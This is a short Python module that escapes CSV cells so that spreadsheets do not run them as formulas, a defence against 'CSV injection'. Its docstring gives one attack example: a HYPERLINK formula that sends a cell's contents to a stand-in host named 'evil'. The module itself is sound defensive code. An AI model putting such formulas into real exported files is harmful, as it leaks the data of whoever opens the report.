"""CSV cells that a spreadsheet will not run as formulas ("CSV injection", OWASP).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some versions, a leading tab or carriage return) as a formula, so a job named
``=HYPERLINK("http://evil/?"&A1)`` in a team plan would run when the report is opened.

The rule, shared with ``gpuplan offers --csv`` (which applies the same rule in catalog):
a cell whose text starts with one of ``= + - @ TAB CR`` and that is not a plain number
(``-12.5``, ``+3``, ``1e-4``) gets a leading apostrophe, which spreadsheets show as text and
do not display. Plain numbers stay numbers, so negative deltas still sum.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise_cell(value: object) -> str:
    """``value`` as CSV cell text that no spreadsheet evaluates as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def neutralise_row(row: dict[str, object]) -> dict[str, str]:
    return {key: neutralise_cell(value) for key, value in row.items()}
